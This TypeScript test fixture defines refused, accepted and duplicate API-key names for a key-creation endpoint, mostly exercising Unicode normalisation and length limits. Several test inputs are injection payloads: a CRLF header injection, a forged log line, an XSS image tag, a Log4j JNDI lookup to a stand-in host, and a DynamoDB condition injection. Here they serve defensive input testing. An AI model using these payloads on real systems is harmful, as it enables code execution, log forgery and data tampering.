import { alike, attemptCalls, attempted, badRequest, created, creating } from '../requests';

// What test/lambda/keys/create.test.ts refuses and accepts is not repeated here.

const naming = (name: unknown) => creating(JSON.stringify({ name }));
const must = (rule: string) => badRequest(`Invalid input: name must ${rule}`);

const refused = [
  ...alike(must('be at least 3 characters'), {
    'blanks that are not ASCII': naming('\u00a0\u2003\u3000\ufeff'),
    'two letters in four code points, before NFC': naming('e\u0301e\u0301'),
  }),
  ...alike(must('be at most 100 characters'), {
    '16,000 letters': naming('a'.repeat(16_000)),
    '51 letters that become 102 by NFC': naming('\u0958'.repeat(51)),
  }),
  ...alike(must('be a string'), {
    'an object with a length': naming({ length: 50 }),
  }),
  ...alike(must('not contain control characters, or characters that hide or reorder text'), {
    'an escape sequence for a terminal': naming('Red \u001b[31malert'),
    'a line of the log': naming('Key"}\n{"level":"ERROR","message":"request.failed"}'),
    'a carriage return and a header': naming('Key\r\nSet-Cookie: a=b'),
    'surrogates in the wrong order': naming('Half \ude00\ud83d'),
    'text in variation selectors': naming(`Key 😀${'\u{e0130}\u{e0175}'.repeat(20)}x`),
  }),
];

/** Names that are stored, and as what if not as they were sent. */
const storedNames: [what: string, name: string, stored?: string][] = [
  ['100 letters in 200 code points, before NFC', 'e\u0301'.repeat(100), '\u00e9'.repeat(100)],
  ['50 letters that become 100 by NFC', '\u0958'.repeat(50), '\u0915\u093c'.repeat(50)],
  ['blanks that are not ASCII around it', '\u00a0\u3000Trimmed\u2003\ufeff', 'Trimmed'],
  ['jamo: stored as a syllable', '\u1112\u1161\u11ab\u1100\u1173\u11af key', '\ud55c\uae00 key'],
  ['stacked diacritics', `Z${'\u0335\u0336\u0337'.repeat(20)}algo`],
  ['JSON', 'Key","level":"ERROR","x":"{'],
  ['HTML', '<img src=x onerror=alert(1)>'],
  ['a Log4j lookup', '$\u007bjndi:ldap://evil.example/a}'],
  ['a DynamoDB condition', 'attribute_not_exists(id) OR :x = :x'],
  ['an inherited name', '__proto__'],
];
const accepted = storedNames.flatMap(([what, name, stored = name]) => alike(created(stored), { [what]: naming(name) }));

/** The name of a key that there is; the request may write it differently. */
const inUse = (what: string, name: string, written = name) =>
  alike(
    {
      status: 409,
      code: 'CONFLICT',
      message: `An API key named "${name}" already exists`,
      calls: [...attemptCalls, 'BatchGetItem', 'DeleteItem'],
      ...attempted,
    },
    { [what]: naming(written) },
    (setting) => [naming(name)(setting)],
  );

const duplicates = [
  ...inUse('the name of a key that there is', 'Twin'),
  ...inUse('decomposed and with blanks', 'Zwillingsschl\u00fcssel', ' Zwillingsschlu\u0308ssel '),
];

export const names = { refused, accepted, duplicates };
